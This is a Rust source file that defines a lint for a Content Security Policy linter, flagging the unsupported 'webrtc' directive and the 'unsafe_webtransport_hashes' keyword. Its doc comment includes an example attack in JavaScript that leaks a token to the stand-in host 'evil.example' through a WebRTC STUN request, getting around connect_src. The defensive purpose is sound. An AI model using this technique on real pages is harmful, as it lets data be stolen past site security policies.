use crate::csp::{Directive, Keyword, SourceExpression};
use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for parts of the specification that no browser supports without a flag: the directive `webrtc`, and the
    /// keyword `unsafe_webtransport_hashes`, which is a warning.
    ///
    /// # Why it matters
    ///
    /// Browsers ignore a directive that they do not know, so that WebRTC still connects to every host. A keyword that
    /// they do not know allows nothing.
    ///
    /// # Attack
    ///
    /// A compromised script sends data over WebRTC, which neither `connect_src` nor the ignored directive covers:
    ///
    /// ```js
    /// const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${token}.evil.example` }] });
    /// peer.createDataChannel("");
    /// peer.createOffer().then(offer => peer.setLocalDescription(offer));
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self, webrtc: block },
    /// ```
    ///
    /// # Fix
    ///
    /// Remove it.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, connect_src: self },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_unrecognized, reason = "takes effect as soon as a browser supports it")]
    /// webrtc: block,
    /// ```
    ///
    /// Harmless, as long as nothing relies on it.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.5.1, webrtc](https://w3c.github.io/webappsec-csp/#directive-webrtc)
    /// - [CSP3, section 2.3.1, unsafe-webtransport-hashes](https://w3c.github.io/webappsec-csp/#grammardef-unsafe-webtransport-hashes)
    Deny "a directive or keyword that no browser supports",
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    for clause in policy.clauses() {
        if DIRECTIVES.contains(&clause.directive.node) {
            let key = clause.directive.node.key();
            report.push(
                Diagnostic::finding(clause.directive.span, format!("no browser supports `{key}`"))
                    .help(format!("remove `{key}`"))
                    .note("browsers ignore a directive that they do not know, so that it restricts nothing")
                    .remove(clause.directive.span),
            );
        }
        for source in clause.sources() {
            if !matches!(&source.node, SourceExpression::Keyword(keyword) if KEYWORDS.contains(keyword)) {
                continue;
            }
            let dsl = source.node.dsl();
            report.push_at(
                Level::Warn,
                Diagnostic::finding(source.span, format!("no browser supports `{dsl}`"))
                    .help(format!("remove `{dsl}`"))
                    .note("browsers ignore a source that they do not know, so that it allows nothing")
                    .remove(source.span),
            );
        }
    }
}

/// What Chromium 156 reports as unrecognized, and neither Firefox nor Safari has.
const DIRECTIVES: &[Directive] = &[Directive::Webrtc];

/// What Chromium 156 reports as an invalid source where the specification allows it.
const KEYWORDS: &[Keyword] = &[Keyword::UnsafeWebtransportHashes];
